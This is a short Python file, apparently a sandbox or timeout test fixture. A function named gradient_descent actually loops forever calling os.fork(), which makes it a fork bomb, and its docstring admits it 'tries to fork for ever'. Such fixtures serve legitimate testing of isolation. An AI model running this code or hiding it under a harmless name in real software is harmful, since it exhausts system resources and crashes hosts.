"""Time: tries to fork for ever."""
# Without isolation: never.

import os


def gradient_descent(w, grad, *, lr):
    while True:
        try:
            os.fork()
        except OSError:
            pass
    return w - lr * grad
